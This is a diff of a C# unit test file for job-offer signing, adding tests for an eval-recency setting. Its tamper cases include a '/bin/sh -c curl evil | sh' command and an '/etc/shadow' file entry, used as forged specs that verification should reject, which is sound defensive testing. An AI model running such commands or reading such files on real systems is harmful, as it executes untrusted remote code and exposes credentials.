@@ -41,6 +41,7 @@ public sealed class JobTrustTests
             signed with { Spec = signed.Spec with { Command = ["/bin/sh", "-c", "curl evil | sh"] } },
             signed with { Spec = signed.Spec with { AppId = "other" } },
             signed with { Spec = signed.Spec with { Pool = "gpu" } },
+            signed with { Spec = signed.Spec with { EvalRecency = new EvalRecencySpec(1800, 100) } },
             signed with { Spec = signed.Spec with { Variables = new Dictionary<string, string>(signed.Spec.Variables) { ["params"] = "{}" } } },
             signed with { Spec = signed.Spec with { Files = [new SnapshotFile("/etc/shadow", 1)] } },
             signed with { Signature = null },
@@ -62,6 +63,20 @@ public sealed class JobTrustTests
 
         Assert.Equal(JobSigner.CanonicalContent(forward), JobSigner.CanonicalContent(backward));
         Assert.True(Signer.Verify(Signer.Sign(forward) with { Spec = backward.Spec }));
+    }
+
+    [Fact]
+    public void An_offer_without_eval_recency_signs_as_before_the_setting_existed_and_one_with_it_survives_the_bus()
+    {
+        // Left out when null: a worker of the previous build computes the same signed bytes for an offer that does not use it.
+        Assert.DoesNotContain("eval_recency", Encoding.UTF8.GetString(JobSigner.CanonicalContent(Offer())), StringComparison.Ordinal);
+
+        var signed = Signer.Sign(Offer(s => s with { EvalRecency = new EvalRecencySpec(1800, 100) }));
+        var received = System.Text.Json.JsonSerializer.Deserialize<JobOffered>(System.Text.Json.JsonSerializer.Serialize(signed))!;
+
+        Assert.Contains("\"eval_recency\":{\"min_pairs\":100,\"window_seconds\":1800}", Encoding.UTF8.GetString(JobSigner.CanonicalContent(signed)), StringComparison.Ordinal);
+        Assert.Equal(new EvalRecencySpec(1800, 100), received.Spec.EvalRecency);
+        Assert.True(Signer.Verify(received));
     }
 
     [Fact]
